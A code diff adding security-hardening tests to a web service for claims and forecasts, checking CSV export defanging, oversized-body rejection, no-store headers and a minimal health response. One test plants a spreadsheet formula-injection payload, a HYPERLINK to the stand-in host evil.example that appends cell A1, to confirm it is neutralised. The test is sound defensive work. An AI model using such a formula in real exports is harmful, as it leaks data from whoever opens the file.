@@ -324,3 +324,72 @@ def test_remembered_requests_are_bounded_by_bytes(monkeypatch: pytest.MonkeyPatc
         cache.remember((f"{API}/claims", f"q={i:0>1000}".encode()), ("claims", i))
     assert cache._question_bytes <= 100_000 and len(cache._questions) == 100_000 // (len(API) + 7 + 1002)
     assert cache.question((f"{API}/claims", f"q={999:0>1000}".encode())) == ("claims", 999)
+
+
+# --- Lows -------------------------------------------------------------------------------------------------------
+
+
+def test_claims_csv_cells_that_start_a_formula_are_defanged(
+    client: TestClient, researcher_headers: dict[str, str], admin_headers: dict[str, str]
+) -> None:
+    import csv
+    import io
+
+    hostile = {
+        **CLAIM,
+        "statement": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+        "quote": "+1 quoted",
+        "author": "@author",
+        "interpretation": "-2 means down",
+        "resolution_criteria": "plain text stays as written",
+    }
+    assert client.post(f"{API}/claims", json=hostile, headers=researcher_headers).status_code == 201
+    text = client.get(f"{API}/export/claims.csv", headers=admin_headers).text
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["statement"] == "'" + hostile["statement"]
+    assert (row["quote"], row["author"]) == ("'+1 quoted", "'@author")
+    assert row["interpretation"] == "'-2 means down"
+    assert row["resolution_criteria"] == "plain text stays as written"
+
+
+@pytest.mark.parametrize("path", ["/login", f"{API}/subscriptions", "/claims/1/forecasts", "/logout"])
+def test_small_bodies_are_refused_by_length_before_they_are_read(app_under_test: Any, path: str) -> None:
+    from tests.service.test_hostile_input import _call, _megabytes
+
+    status, pulled = _call(
+        app_under_test,
+        method="POST",
+        path=path,
+        headers={"content-type": "application/x-www-form-urlencoded", "content-length": str(19_000_000)},
+        chunks=_megabytes(19),
+    )
+    assert (status, pulled) == (413, 0)
+    status, pulled = _call(  # no Content-Length: the guard stops pulling once past 256 KB
+        app_under_test,
+        method="POST",
+        path=path,
+        headers={"content-type": "application/x-www-form-urlencoded"},
+        chunks=_megabytes(19),
+    )
+    assert status == 413 and pulled <= 1_000_000
+
+
+@pytest.fixture
+def app_under_test(client: TestClient) -> Any:
+    return client.app
+
+
+def test_signed_in_pages_are_no_store(client: TestClient, researcher_headers: dict[str, str]) -> None:
+    from tests.service.test_dashboard_actions import _sign_in
+
+    assert "no-store" not in client.get("/").headers.get("cache-control", "")
+    _sign_in(client, researcher_headers["Authorization"].removeprefix("Bearer "))
+    for path in ("/", "/claims/new", "/track-record"):
+        assert client.get(path).headers["cache-control"] == "no-store", path
+
+
+def test_health_names_no_database_under_private_reads(engine: Any, session: Session, clock: FixedClock) -> None:
+    with limited_client(engine, session, clock, private_reads=True) as client:
+        assert client.get(f"{API}/health").json() == {"status": "ok"}
+    with limited_client(engine, session, clock) as client:
+        assert client.get(f"{API}/health").json()["database"] in ("sqlite", "postgresql")
